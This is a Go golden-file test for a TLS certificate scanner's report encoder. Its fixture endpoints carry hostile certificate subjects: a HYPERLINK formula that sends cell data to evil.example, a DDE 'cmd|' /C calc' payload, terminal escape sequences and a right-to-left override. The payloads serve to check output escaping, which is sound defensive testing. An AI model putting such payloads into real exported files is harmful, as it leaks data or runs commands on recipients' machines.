package report_test

import (
	"bytes"
	"flag"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/certsweep/certsweep/report"
	"github.com/certsweep/certsweep/scanner"
	"github.com/certsweep/certsweep/store"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/")

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("read golden file (run go test -update to create it): %v", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from golden file:\n--- got\n%s\n--- want\n%s", name, got, want)
	}
}

// hostileEndpoints are endpoints whose certificates carry attacker-chosen
// text in every field a report prints.
func hostileEndpoints() []store.Endpoint {
	at := time.Date(2026, 11, 1, 12, 0, 0, 0, time.UTC)
	subjects := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"Click for your bonus")`,
		`CN=+SUM(1+1)*cmd|' /C calc'!A0`,
		"CN=-2+3,O=\"Quote\" Corp, Inc.",
		"CN=@SUM(A1:A9)\nOU=second line\r\nthird",
		"CN=\x1b[31mRED\x1b[0m\x1b]0;pwned\x07 and \u202egnp.exe",
		"CN=bad utf8 \xff\xfe",
		"\tCN=tab first",
	}
	var eps []store.Endpoint
	for i, subj := range subjects {
		var fp [32]byte
		fp[0], fp[31] = byte(i+1), 0xab
		eps = append(eps, store.Endpoint{
			SweepID: 2, IP: "127.0.0." + string(rune('1'+i)), Port: 443, SNI: "=cmd|x",
			Owner: []string{"", "@ops"}[i%2],
			Leaf: store.Certificate{
				Cert: scanner.Cert{
					SHA256: fp, Subject: subj, Issuer: "-Evil CA", Serial: "0a",
					NotBefore: at.Add(-24 * time.Hour), NotAfter: at.Add(time.Duration(i-2) * 24 * time.Hour),
					KeyType: "RSA", KeyBits: 1024 * (i%2 + 1), SignatureAlgorithm: "SHA256-RSA",
				},
				FirstSeen: at, LastSeen: at.Add(time.Hour),
			},
		})
	}
	// Two measured postures: one with a weak suite, one with none.
	eps[0].Posture, eps[0].Versions, eps[0].WeakCiphers = true, []string{"TLS 1.0", "TLS 1.2"}, []string{"TLS_RSA_WITH_3DES_EDE_CBC_SHA"}
	eps[1].Posture, eps[1].Versions = true, []string{"TLS 1.3"}
	return eps
}

func TestReportGolden(t *testing.T) {
	now := time.Date(2026, 11, 1, 12, 0, 0, 0, time.UTC)
	p := report.DefaultPolicy(now)
	for _, format := range []string{"csv", "json", "table"} {
		var buf bytes.Buffer
		enc, err := report.NewEncoder(&buf, format, report.ReportColumns)
		if err != nil {
			t.Fatal(err)
		}
		for _, ep := range hostileEndpoints() {
			fs := report.CertFindings(ep.Leaf, 0, p)
			if ep.Owner == "" {
				fs = append(fs, report.Finding{Kind: report.KindUntracked, Severity: report.SeverityMedium})
			}
			if err := enc.Encode(report.ReportRow(ep, fs, now)...); err != nil {
				t.Fatal(err)
			}
		}
		if err := enc.Close(); err != nil {
			t.Fatal(err)
		}
		golden(t, "report."+format+".golden", buf.Bytes())
	}
}
